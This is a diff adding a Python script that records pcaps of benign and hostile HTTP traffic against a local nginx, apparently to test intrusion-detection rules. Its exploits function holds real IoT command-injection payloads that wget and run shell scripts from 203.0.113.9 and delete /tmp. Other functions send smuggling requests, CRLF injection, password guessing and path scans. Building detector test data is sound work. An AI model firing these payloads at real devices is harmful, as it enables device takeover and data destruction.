@@ -1,0 +1,196 @@
+#!/usr/bin/python3
+"""Records pcaps/http/*: a real nginx, curl, and requests written by hand where curl would not send them.
+
+    tests/record/http.py [NAME...]     needs root, nginx, curl, tcpdump
+
+Exploit strings go to an nginx that has nothing behind it: it answers 404 and runs none of them."""
+import os
+import socket
+import subprocess
+import sys
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+from net import Net, until  # noqa: E402
+
+OUT = os.path.join(os.path.dirname(os.path.dirname(HERE)), "pcaps")
+SERVER, METER, ATTACKER = "10.20.0.1", "10.20.0.11", "10.20.0.66"
+USERS = {"meter": "Zaehler-77-wolke", "admin": "admin"}
+CONFIG = """
+error_log {dir}/error.log; pid {dir}/nginx.pid; user root; daemon off; worker_processes 1;
+events {{ worker_connections 512; }}
+http {{
+  access_log {dir}/access.log; client_body_temp_path {dir}/body; proxy_temp_path {dir}/proxy; fastcgi_temp_path {dir}/fcgi;
+  uwsgi_temp_path {dir}/uwsgi; scgi_temp_path {dir}/scgi; client_header_timeout 60s; client_max_body_size 8m;
+  server {{
+    listen 80;
+    root {dir}/www;
+    location /private/ {{ auth_basic "gateway"; auth_basic_user_file {dir}/users; try_files $uri /private/state.json; }}
+    location = /login {{ error_page 405 =401 @refused; return 401 "wrong password\\n"; }}
+    location @refused {{ return 401 "wrong password\\n"; }}
+    location /api/ {{ proxy_pass http://127.0.0.1:81; }}
+  }}
+  server {{ listen 127.0.0.1:81; location / {{ return 200 "stored\\n"; }} }}
+}}
+"""
+
+
+def nginx(net):
+    www = os.path.join(net.dir, "www")
+    os.makedirs(os.path.join(www, "private"))
+    for name, text in (("index.html", "<h1>Gateway</h1>\n"), ("private/state.json", '{"watt": 118}\n'), ("large.bin", "0123456789abcdef" * 8192)):
+        with open(os.path.join(www, name), "w", encoding="ascii") as f:
+            f.write(text)
+    with open(os.path.join(net.dir, "users"), "w", encoding="ascii") as f:
+        for user, password in USERS.items():
+            hashed = subprocess.run(["openssl", "passwd", "-apr1", password], capture_output=True, text=True, check=True)
+            f.write(f"{user}:{hashed.stdout.strip()}\n")
+    path = os.path.join(net.dir, "nginx.conf")
+    with open(path, "w", encoding="ascii") as f:
+        f.write(CONFIG.format(dir=net.dir))
+    net.spawn("server", "nginx", "-c", path, "-e", os.path.join(net.dir, "error.log"))
+    until("nginx", lambda: "response" in net.run("server", "curl", "-s", "-o", "/dev/null", "-w", "response", "http://127.0.0.1/", check=False))
+
+
+def curl(net, host, path, *words):
+    net.run(host, "curl", "-s", "-o", "/dev/null", *words, f"http://{SERVER}{path}")
+
+
+def raw(net, host, *requests, pause=0.0):
+    """One connection; each request is sent as it stands, answers are read and dropped."""
+    with net.inside(host):
+        with socket.create_connection((SERVER, 80), timeout=5) as s:
+            s.settimeout(0.3)
+            for request in requests:
+                s.sendall(request)
+                time.sleep(pause)
+                try:
+                    while s.recv(65536):
+                        pass
+                except OSError:
+                    pass
+
+
+def basic_clear(net):
+    curl(net, "meter", "/private/state.json", "-u", "meter:" + USERS["meter"])
+
+
+def challenge(net):
+    curl(net, "meter", "/private/state.json")
+    curl(net, "meter", "/", "-H", "Authorization: Bearer 5c1f")
+
+
+def default_credential(net):
+    curl(net, "attacker", "/private/", "-u", "admin:admin")
+
+
+def default_refused(net):
+    curl(net, "attacker", "/private/", "-u", "admin:password")
+    curl(net, "attacker", "/private/", "-u", "root:root")
+    curl(net, "meter", "/private/", "-u", "meter:" + USERS["meter"])
+
+
+def hammering(net):
+    for i in range(25):
+        curl(net, "attacker", "/private/", "-u", f"meter:guess{i}")
+
+
+def form_hammering(net):
+    for i in range(25):
+        curl(net, "attacker", "/login", "-d", f"username=admin&password=guess{i}")
+
+
+def basic_poller(net):
+    words = ["-u", "meter:" + USERS["meter"]]
+    for _ in range(30):
+        curl(net, "meter", "/private/state.json", *words)
+
+
+def path_scan(net):
+    for name in ("admin", "manager/html", "phpmyadmin/", "cgi-bin/luci", "HNAP1/", "setup.cgi", ".env", ".git/config", "backup.zip",
+                 "web.config", "goform/", "wp-login.php", "server-status", "actuator/health", "config.xml", "system.ini", "boaform/",
+                 "onvif/device_service", "axis-cgi/admin/param.cgi", "stream/video.mjpg", "hudson", "solr/", "console", "owa/"):
+        curl(net, "attacker", "/" + name, "-A", "Mozilla/5.0 zgrab/0.x")
+
+
+def missing_poller(net):
+    for _ in range(40):
+        curl(net, "meter", "/firmware/latest.sig")
+
+
+def token_in_url(net):
+    curl(net, "meter", "/api/v1/data?device=m7&access_token=9f8e7d6c5b4a3210&watt=118")
+
+
+def token_in_header(net):
+    curl(net, "meter", "/api/v1/data?device=m7&watt=118", "-H", "Authorization: Bearer 9f8e7d6c5b4a3210")
+
+
+def exploits(net):
+    raw(net, "attacker", b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-Agent: Hello, World\r\nContent-Length: 118\r\n\r\n"
+        b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://203.0.113.9/gpon+-O+->/tmp/g;sh+/tmp/g&ipv=0")
+    raw(net, "attacker", b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 10.20.0.1\r\nUser-Agent: Hello, world\r\n\r\n")
+    raw(net, "attacker", b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m.sh&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n")
+
+
+def admin_pages(net):
+    for path in ("/setup.cgi?next_file=status.htm", "/cgi-bin/luci/admin/status", "/shell.html", "/goform/getStatus?wget=1", "/picture.xml"):
+        curl(net, "meter", path)
+
+
+def violations(net):
+    raw(net, "attacker", b"POST / HTTP/1.1\r\nHost: g\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG")
+    raw(net, "attacker", b"POST / HTTP/1.1\r\nHost: g\r\nContent-Length: 6\r\nContent-Length: 11\r\n\r\nhello world")
+    raw(net, "attacker", b"POST /api/x HTTP/1.1\r\nHost: g\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n")
+    raw(net, "attacker", b"GET /redirect?to=/%0d%0aSet-Cookie:%20sid=1 HTTP/1.1\r\nHost: g\r\n\r\n")
+
+
+def unusual_but_legal(net):
+    raw(net, "meter", b"POST /api/a HTTP/1.1\r\nHost: g\r\nTransfer-Encoding: chunked\r\n\r\n5;ext=1\r\nhello\r\n0\r\nTrailer: x\r\n\r\n",
+        b"GET / HTTP/1.1\r\nHost: g\r\n\r\nGET /large.bin HTTP/1.1\r\nHost: g\r\n\r\nGET / HTTP/1.1\r\nHost: g\r\nConnection: close\r\n\r\n")
+    raw(net, "meter", b"GET / HTTP/1.0\r\n\r\n")
+    curl(net, "meter", "/", "-I")
+    curl(net, "meter", "/api/b", "-H", "Expect: 100-continue", "-d", "x" * 2000)
+
+
+def telemetry(net):
+    for i in range(12):
+        curl(net, "meter", "/api/v1/readings", "-H", "Content-Type: application/json", "-d", '{"watt": %d}' % (100 + i))
+    curl(net, "meter", "/", "http://10.20.0.1/large.bin", "-o", "/dev/null")
+    with open(os.path.join(net.dir, "image"), "wb") as f:
+        f.write(bytes(1500000))
+    curl(net, "meter", "/api/upload", "--data-binary", "@" + f.name, "-H", "Transfer-Encoding: chunked", "-H", "Content-Type: application/octet-stream")
+
+
+CAPTURES = {
+    "http/http_basic_auth_cleartext-fires": basic_clear, "http/http_basic_auth_cleartext-quiet": challenge,
+    "http/http_default_credential-fires": default_credential, "http/http_default_credential-quiet": default_refused,
+    "http/http_login_hammering-fires": hammering, "http/http_login_hammering-fires-form": form_hammering,
+    "http/http_login_hammering-quiet": basic_poller,
+    "http/http_path_scan-fires": path_scan, "http/http_path_scan-quiet": missing_poller,
+    "http/http_token_in_url-fires": token_in_url, "http/http_token_in_url-quiet": token_in_header,
+    "http/http_iot_exploit-fires": exploits, "http/http_iot_exploit-quiet": admin_pages,
+    "http/http_protocol_violation-fires": violations, "http/http_protocol_violation-quiet": unusual_but_legal,
+    "benign/http_telemetry": telemetry,
+}
+ONE_WAY = {"http/http_login_hammering-fires-oneway": ("http/http_login_hammering-fires", f"src host {ATTACKER}")}
+
+
+def main():
+    for name, act in CAPTURES.items():
+        if sys.argv[1:] and not any(a in name for a in sys.argv[1:]):
+            continue
+        with Net(server=SERVER, meter=METER, attacker=ATTACKER) as net:
+            nginx(net)
+            with net.tap(os.path.join(OUT, name + ".pcap")):
+                act(net)
+        print(name)
+    for name, (of, only) in ONE_WAY.items():
+        subprocess.run(["tcpdump", "-n", "-r", os.path.join(OUT, of + ".pcap"), "-w", os.path.join(OUT, name + ".pcap"), only],
+                       check=True, stderr=subprocess.DEVNULL)
+        print(name)
+
+
+if __name__ == "__main__":
+    main()
